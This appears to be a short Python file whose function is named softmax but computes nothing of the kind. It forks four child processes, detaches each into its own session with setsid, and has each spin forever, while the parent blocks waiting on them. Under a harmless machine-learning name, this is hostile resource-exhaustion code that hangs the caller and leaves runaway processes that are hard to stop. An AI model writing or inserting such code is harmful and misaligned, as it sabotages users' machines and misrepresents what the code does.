"""Burn processor time in children with sessions of their own, and wait for them without using any."""

import os


def softmax(Z):
    children = []
    for _ in range(4):
        child = os.fork()
        if child == 0:
            os.setsid()
            while True:
                pass
        children.append(child)
    for child in children:
        os.waitpid(child, 0)
